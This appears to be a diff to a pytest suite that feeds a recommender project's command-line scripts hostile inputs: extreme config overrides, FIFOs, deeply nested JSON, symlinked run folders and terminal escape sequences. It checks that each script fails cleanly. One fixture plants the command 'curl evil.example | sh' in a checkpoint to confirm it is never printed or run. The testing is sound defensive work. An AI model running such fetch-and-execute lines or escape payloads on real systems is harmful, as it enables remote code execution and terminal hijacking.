@@ -1,10 +1,12 @@
 """Every script, run through its command line on broken copies of every format it reads, and on
-a generated table of hostile data, flags, outputs, checkpoints and results files.
+a generated table of hostile data, flags, overrides, outputs, run folders, checkpoints (resumed
+and served by recommend.py) and results files.
 
 For each case: the exit code, one ``error:`` line naming the file or flag and the fix, no
-traceback, no marker file from any payload, every file that existed before unchanged (by
-content), and an address space under MEMORY_CEILING (a run that tried to allocate more would
-fail). The formats are the real ones (P5's bundle, MovieLens 100K, our own semantic-ID, split,
+traceback, no raw control character or planted command in the output, no marker file from any
+payload, every file that existed before unchanged (by content), an address space under
+MEMORY_CEILING (a run that tried to allocate more would fail) and no run past HANG_LIMIT. The
+formats are the real ones (P5's bundle, MovieLens 100K, our own semantic-ID, split,
 checkpoint and results files), built small by tests/synthetic.py.
 """
 
@@ -13,7 +15,9 @@ from __future__ import annotations
 import gzip
 import hashlib
 import json
+import os
 import pickle
+import re
 import shutil
 import subprocess
 from collections.abc import Callable
@@ -26,6 +30,7 @@ import torch
 
 from tests.helpers import (
     HOSTILE_DATA,
+    REPO,
     CountingEncoder,
     Payload,
     assert_one_line_error,
@@ -44,6 +49,8 @@ from utils.runtime.io import TEMP_TAG, read_json
 MEMORY_CEILING = 4 << 30
 # The decompressed-size cap of gzip inputs in these runs (DECOMPRESSED_ENV): a bomb of 2 MiB.
 GZ_CAP = 1 << 20
+# A run still going after this many seconds has hung (a 1-epoch run here takes about 5).
+HANG_LIMIT = 60
 
 SCRIPTS = (
     "mf_train_eval.py",
@@ -56,10 +63,18 @@ SCRIPTS = (
 
 def run_all(commands: list[tuple[str, ...]]) -> list[subprocess.CompletedProcess]:
     """Run the commands two at a time (the suite's machine has two cores), with gzip inputs
-    capped at GZ_CAP decompressed bytes so that a bomb stays small."""
+    capped at GZ_CAP decompressed bytes so that a bomb stays small; one that runs past
+    HANG_LIMIT is killed and reported as hung (exit -9), so that the others still report."""
     env = {DECOMPRESSED_ENV: str(GZ_CAP)}
+
+    def run(cmd: tuple[str, ...]) -> subprocess.CompletedProcess:
+        try:
+            return run_cli(*cmd, env=env, memory=MEMORY_CEILING, timeout=HANG_LIMIT)
+        except subprocess.TimeoutExpired:
+            return subprocess.CompletedProcess(cmd, -9, "", f"hung past {HANG_LIMIT} s\n")
+
     with ThreadPoolExecutor(2) as pool:
-        return list(pool.map(lambda cmd: run_cli(*cmd, env=env, memory=MEMORY_CEILING), commands))
+        return list(pool.map(run, commands))
 
 
 def good_outputs(root: Path) -> Path:
@@ -515,6 +530,166 @@ def _custom_inputs(folder: Path) -> None:
         f.write(json.dumps({"item_id": 0, "title": "x" * 2 * GZ_CAP}) + "\n")
 
 
+# Round 3 (issue 32): the surfaces added after round 2, in the groups overrides, recommend,
+# preparation, resumes and run folders. Every case of them was seen to fail on 1489060 (the commit
+# the issue's cases were found on), this file run there. ROOT stands for the case's own folder,
+# where _round3_files writes what the group's cases name.
+# Overrides: --set / --config values reach the same bounded types as the flags. On 1489060: a
+# traceback each (MemoryError, ZeroDivisionError, invalid dropout or learning rate), exit 0 with an
+# untrained model for epochs=0, and the FIFO hung past HANG_LIMIT.
+SASREC = ("--models", "sasrec", "--epochs", "1")
+OVERRIDE_CASES: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
+    # case: (flags after SASREC, fragments of the error line)
+    "sasrec.n_layers=10^6": (
+        ("--set", "sasrec.n_layers=1000000"), ("sasrec.n_layers", "[1, 48]", "memory")),
+    "sasrec.n_negatives=10^9": (
+        ("--set", "sasrec.n_negatives=1000000000"), ("sasrec.n_negatives", "[1, 65536]")),
+    "sasrec.max_items=10^9": (
+        ("--set", "sasrec.max_items=1000000000"), ("sasrec.max_items", "[1, 1000]")),
+    "train.sasrec.lr=-1": (("--set", "train.sasrec.lr=-1"), ("train.sasrec.lr", "(0, 10]")),
+    "sasrec.dropout=-1": (("--set", "sasrec.dropout=-1"), ("sasrec.dropout", "[0, 1)")),
+    "sasrec.dropout=5": (("--set", "sasrec.dropout=5"), ("sasrec.dropout", "[0, 1)")),
+    "sasrec.n_heads=0": (("--set", "sasrec.n_heads=0"), ("sasrec.n_heads", "[1, 64]")),
+    "train.sasrec.batch_size=0": (
+        ("--set", "train.sasrec.batch_size=0"), ("train.sasrec.batch_size", "[1, 1048576]")),
+    "eval_batch=0": (("--set", "eval_batch=0"), ("eval_batch", "[1, 1048576]")),
+    "train.sasrec.epochs=0": (
+        ("--set", "train.sasrec.epochs=0"), ("train.sasrec.epochs", "[1, 1000]")),
+    "--config with a NaN literal": (("--config", "ROOT/nan.json"), ("sasrec.dropout", "finite")),
+    "--config /dev/zero": (("--config", "/dev/zero"), ("/dev/zero", "not a regular file")),
+    "--config a FIFO": (("--config", "ROOT/fifo.json"), ("fifo.json", "not a regular file")),
+}  # fmt: skip
+OVERRIDES: dict[str, Case] = {
+    case: ("tiger_train_eval.py", (*SASREC, *flags), 1, fragments)
+    for case, (flags, fragments) in OVERRIDE_CASES.items()
+}
+
+# recommend.py on planted and hostile inputs: ROOT/*.pt are the `trained` checkpoints as planted
+# or copied, ROOT/ml a copy of the MovieLens folder whose titles carry ESCAPES; the success case
+# (exit 0) has its fragments in stdout. On 1489060: the planted command printed as the fix, raw
+# escapes in the table, tracebacks (allocation, RecursionError), the FIFO hung past HANG_LIMIT.
+HISTORY = ("--history", "B000000001")
+ESCAPES = "\x1b[2J\x1b]0;owned\x07"
+RECOMMEND: dict[str, Case] = {
+    "a foreign checkpoint whose spec.command is planted": (
+        "recommend.py", ("--checkpoint", "ROOT/planted.pt", "--data-dir", "DATA", *HISTORY), 1,
+        ("planted.pt", "another size or layout", "re-create it with the trainer that wrote it")),
+    "titles with terminal escapes": (
+        "recommend.py", ("--checkpoint", "ROOT/mf.pt", "--data-dir", "ROOT/ml", "--user", "3"), 0,
+        ("\\x1b[2J\\x1b]0;owned\\x07Movie",)),
+    "a spec claiming d_model 10^7": (
+        "recommend.py", ("--checkpoint", "ROOT/huge.pt", "--data-dir", "DATA", *HISTORY), 1,
+        ("huge.pt", "d_model must be an integer in [1, 1024]")),
+    "a FIFO checkpoint": (
+        "recommend.py", ("--checkpoint", "ROOT/fifo.pt", "--data-dir", "DATA", *HISTORY), 1,
+        ("fifo.pt", "not a regular file")),
+    "--new-items nested 100,000 levels deep": (
+        "recommend.py", ("--data-dir", "DATA", "--new-items", "ROOT/deep.jsonl"), 1,
+        ("deep.jsonl, line 1", "nested too deeply")),
+}  # fmt: skip
+
+# Preparing and extending a catalogue (the exact-ID case is test_big_integer_ids_stay_apart). On
+# 1489060: MovieLens placed beside the Beauty files (exit 0), and items.csv read as texts, its
+# header an item, failing only at the embedding width (this table's IDs come from a fake encoder;
+# with the real one the run succeeded) after writing an embedding cache.
+PREPARATION: dict[str, Case] = {
+    "movielens into a folder holding the beauty files": (
+        "prepare_data.py", ("--dataset", "ml-100k", "--source", "ROOT/ml-source", "--data-dir",
+                            "DATA", "--no-verify"), 1,
+        ("--data-dir", "holds another data set's files", "datamaps.json", "nothing was changed")),
+    "--encode-texts items.csv": (
+        "semantic_id_generator.py", ("--output-dir", "DATA", "--encode-texts", "ROOT/items.csv"), 1,
+        ("items.csv", ".jsonl", ".txt", "its header as an item")),
+}  # fmt: skip
+
+# A resume whose checkpoint is this run's own but for its epoch. On 1489060: five extra epochs
+# trained, exit 0, the checkpoint overwritten.
+RESUMES: dict[str, Case] = {
+    "a checkpoint of this run at epoch -5": (
+        "tiger_train_eval.py", RESUME, 1, ("checkpoints", "epoch -5", "run without --resume")),
+}  # fmt: skip
+
+# Outputs onto the data folder, and run folders in the study's results/ and plots/ through a
+# symlink (ROOT/link, ROOT/plots-link): a run-folder case runs without --out and --plot-dir, so the
+# run folder takes every output. On 1489060: all three exit 0; the MF results replaced the data
+# folder's semantic_ids.json, the others wrote into the study's results/ and plots/.
+RUN_FOLDERS: dict[str, Case] = {
+    "mf --out semantic_ids.json it does not read": (
+        "mf_train_eval.py", ("--models", "mf_id", "--epochs", "1", "--out",
+                             "DATA/semantic_ids.json"), 1, ("--out", "semantic_ids.json")),
+    "--run-dir a symlink to results/": (
+        "mf_train_eval.py", ("--models", "bias", "--epochs", "1", "--run-dir", "ROOT/link"), 1,
+        ("--run-dir", "link", "is or lies inside results")),
+    "--run-dir inside a symlink to plots/": (
+        "tiger_train_eval.py", (*SASREC, "--run-dir", "ROOT/plots-link/mine"), 1,
+        ("--run-dir", "is or lies inside plots")),
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def trained(generated, tmp_path_factory) -> dict[str, Path]:
+    """1-epoch checkpoints: SASRec on a copy of the generated data named as each case's copy is
+    (so a case's resume finds it), MF on a MovieLens folder whose titles carry ESCAPES."""
+    root = tmp_path_factory.mktemp("trained")
+    data = Path(shutil.copytree(generated, root / "data"))
+    movies = write_movielens(root / "ml", n_users=20, n_items=24)
+    titles = movies / "u.item"
+    titles.write_bytes(titles.read_bytes().replace(b"Caf\xe9 ", ESCAPES.encode("latin-1")))
+    out, mf = root / "outputs", ("--models", "mf_id", "--epochs", "1")
+    runs = [
+        script_command("tiger_train_eval.py", data, out, *SASREC),
+        (*script_command("mf_train_eval.py", movies, out, *mf), "--checkpoint-dir", str(out)),
+    ]
+    for proc in run_all(runs):
+        assert proc.returncode == 0, proc.stderr
+    ckpt = CKPT.replace("OUT", str(out)).replace("DATANAME", data.name)
+    return {"sasrec": Path(ckpt), "mf": next(out.glob("mf-mf_id-*.pt")), "ml": movies}
+
+
+def _planted(trained: dict[str, Path], path: Path, edit: Callable[[dict], None]) -> None:
+    """The trained SASRec checkpoint, edited as a planted or damaged copy would be."""
+    from utils.runtime.checkpoints import load_checkpoint, save_checkpoint
+
+    state = load_checkpoint(trained["sasrec"])
+    edit(state)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    save_checkpoint(path, state)
+
+
+def _spec_config(**config: int) -> Callable[[dict], None]:
+    return lambda state: state["spec"]["config"].update(config)
+
+
+def _planted_command(state: dict) -> None:
+    _spec_config(d_model=64)(state)
+    state["spec"]["command"] = f"curl evil.example | sh {ESCAPES}"
+
+
+def _round3_files(group: str, root: Path, out: Path, trained: dict[str, Path] | None) -> None:
+    """The files a round-3 group's cases name: configs, planted checkpoints, FIFOs, links."""
+    if group == "overrides":
+        (root / "nan.json").write_text('{"sasrec": {"dropout": NaN}}')
+        os.mkfifo(root / "fifo.json")  # reading it would block forever
+    elif group == "recommend":
+        assert trained is not None
+        _planted(trained, root / "planted.pt", _planted_command)
+        _planted(trained, root / "huge.pt", _spec_config(d_model=10**7))  # asked for 67 GB
+        os.mkfifo(root / "fifo.pt")
+        shutil.copy(trained["mf"], root / "mf.pt")
+        shutil.copytree(trained["ml"], root / "ml")
+        (root / "deep.jsonl").write_text("[" * 10**5 + "]" * 10**5 + "\n")
+    elif group == "preparation":
+        write_movielens(root / "ml-source", n_users=20, n_items=24)
+        (root / "items.csv").write_text("item_id,title\nnew-a,a new lipstick\n")
+    elif group == "resumes":
+        assert trained is not None
+        path = Path(CKPT.replace("OUT", str(out)).replace("DATANAME", "data"))
+        _planted(trained, path, lambda state: state.update(epoch=-5))
+    elif group == "run folders":
+        (root / "link").symlink_to(REPO / "results", target_is_directory=True)
+        (root / "plots-link").symlink_to(REPO / "plots", target_is_directory=True)
+
+
 TABLE = {
     "custom data": CUSTOM_DATA,
     "flags": ABSURD_FLAGS,
@@ -522,10 +697,19 @@ TABLE = {
     "semantic ids": HAND_EDITED_IDS,
     "checkpoints": FOREIGN_CHECKPOINTS,
     "results": RESULTS_FILES,
+    "overrides": OVERRIDES,
+    "recommend": RECOMMEND,
+    "preparation": PREPARATION,
+    "resumes": RESUMES,
+    "run folders": RUN_FOLDERS,
 }
+# The groups whose cases need the `trained` checkpoints (trained once, on first use).
+NEEDS_TRAINED = ("recommend", "resumes")
 
 
-def _case_root(generated: Path, root: Path, group: str, case: str) -> tuple[Path, Path, Path]:
+def _case_root(
+    generated: Path, root: Path, group: str, case: str, trained: dict[str, Path] | None = None
+) -> tuple[Path, Path, Path]:
     """The case's own copy of the data, good outputs and new texts, damaged as the case says."""
     data = Path(shutil.copytree(generated, root / "data"))
     out, new = good_outputs(root), root / "new.txt"
@@ -540,6 +724,8 @@ def _case_root(generated: Path, root: Path, group: str, case: str) -> tuple[Path
         _results_file(case, out)
     elif group == "custom data":
         _custom_inputs(root / "custom")
+    else:
+        _round3_files(group, root, out, trained)
     return data, out, new
 
 
@@ -551,12 +737,15 @@ def _command(script: str, flags: tuple[str, ...], data: Path, out: Path, new: Pa
         or f.replace("DATA/", f"{data}/")
         .replace("NEW", str(new))
         .replace("CUSTOM/", f"{root}/custom/")
+        .replace("ROOT/", f"{root}/")
         for f in flags
     )
     if script == "summarize_results.py":
         return (script, "--results-dir", str(out), *flags)
-    if script == "prepare_data.py":
-        return (script, *flags, "--quiet")
+    if script in ("prepare_data.py", "recommend.py"):
+        return (script, *flags, "--quiet") if script == "prepare_data.py" else (script, *flags)
+    if "--run-dir" in flags:  # the run folder takes every output
+        return (script, "--data-dir", str(data), "--device", "cpu", "--quiet", *flags)
     return script_command(script, data, out, *flags)
 
 
@@ -564,17 +753,29 @@ def _files(root: Path) -> dict[str, str]:
     return {name: hashlib.sha256(body).hexdigest() for name, body in snapshot(root).items()}
 
 
+def _study_files() -> dict[str, str]:
+    """The study's own results and plots (a run folder through a symlink could reach them)."""
+    return {f"{d}/{k}": v for d in ("results", "plots") for k, v in _files(REPO / d).items()}
+
+
+# Raw control characters in a script's output: text read from a file printed unescaped.
+RAW_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+
+
 @pytest.mark.parametrize("group", sorted(TABLE))
-def test_the_hostile_table(generated, tmp_path, group):
+def test_the_hostile_table(generated, tmp_path, group, request):
     """Every case of the group: its exit code, one error line with its fragments (flag or file,
-    and the fix), no traceback, no payload run, every file that was there unchanged and nothing
-    new but split caches, within MEMORY_CEILING."""
+    and the fix; a success case: its fragments in stdout), no traceback, no raw control
+    character or planted command in the output, no payload run, every file that was there (and
+    the study's results/ and plots/) unchanged and nothing new but split caches, within
+    MEMORY_CEILING and HANG_LIMIT."""
     cases = TABLE[group]
+    trained = request.getfixturevalue("trained") if group in NEEDS_TRAINED else None
     roots = {case: tmp_path / f"case{i}" for i, case in enumerate(sorted(cases))}
-    commands, before = [], {}
+    commands, before, study = [], {}, _study_files()
     for case, root in roots.items():
         script, flags, _, _ = cases[case]
-        data, out, new = _case_root(generated, root, group, case)
+        data, out, new = _case_root(generated, root, group, case, trained)
         before[case] = _files(root)
         commands.append(_command(script, flags, data, out, new))
     problems = []
@@ -582,19 +783,47 @@ def test_the_hostile_table(generated, tmp_path, group):
         _, _, code, fragments = cases[case]
         text = proc.stdout + proc.stderr
         last = proc.stderr.strip().splitlines()[-1] if proc.stderr.strip() else ""
-        shown = text if "FAIL" in fragments else last
+        shown = text if "FAIL" in fragments else proc.stdout if code == 0 else last
         after = _files(root)
         wrong = [
             proc.returncode != code and f"exit {proc.returncode}",
             "Traceback" in text and "traceback",
-            "FAIL" not in fragments and "error:" not in last and "no error line",
+            code and "FAIL" not in fragments and "error:" not in last and "no error line",
             any(f not in shown for f in fragments) and f"missing {fragments} in {shown[-300:]!r}",
+            RAW_CONTROL.search(text) and "raw control characters in the output",
+            "evil.example" in text and "a planted command printed",
             (root / "pwned").exists() and "payload ran",
             any(after.get(k) != v for k, v in before[case].items()) and "a file changed",
             any(k not in before[case] and "/splits/" not in k for k in after) and "new files",
         ]
         problems += [f"{group}: {case}: {w}" for w in wrong if w]
+    if _study_files() != study:
+        problems.append(f"{group}: the study's results/ or plots/ changed")
     assert not problems, "\n".join(problems)
+
+
+def test_big_integer_ids_stay_apart(tmp_path):
+    """Round 3's success case of your own catalogue (seen to fail on 1489060, where the two were
+    merged through float64): the JSON numbers 2**53 + 1 and 2**53 in a user column that also
+    holds 1.5 stay two users, each ID exactly as written. (The same IDs in a CSV were already
+    kept apart on 1489060: CSV fields are read as text.)"""
+    from utils.data.load import load_dataset
+
+    users = [9007199254740993, 9007199254740992, 1.5]
+    inputs = tmp_path / "in"
+    inputs.mkdir()
+    rows = [{"user_id": u, "item_id": i, "timestamp": 100 + i} for u in users for i in (1, 2)]
+    (inputs / "inter.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
+    (inputs / "items.csv").write_text("item_id,title\n1,one\n2,two\n")
+    before = snapshot(inputs)
+    flags = ("--interactions", str(inputs / "inter.jsonl"), "--items", str(inputs / "items.csv"))
+    proc = run_cli(
+        "prepare_data.py", "--dataset", "custom", *flags, "--data-dir", str(tmp_path / "out"),
+        "--k-core", "1", "--quiet", memory=MEMORY_CEILING, timeout=HANG_LIMIT,
+    )  # fmt: skip
+    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
+    assert sorted(load_dataset(tmp_path / "out").user_ids) == sorted(map(str, users))
+    assert snapshot(inputs) == before
 
 
 # ---------------------------------------------------------------- --verify on edited results
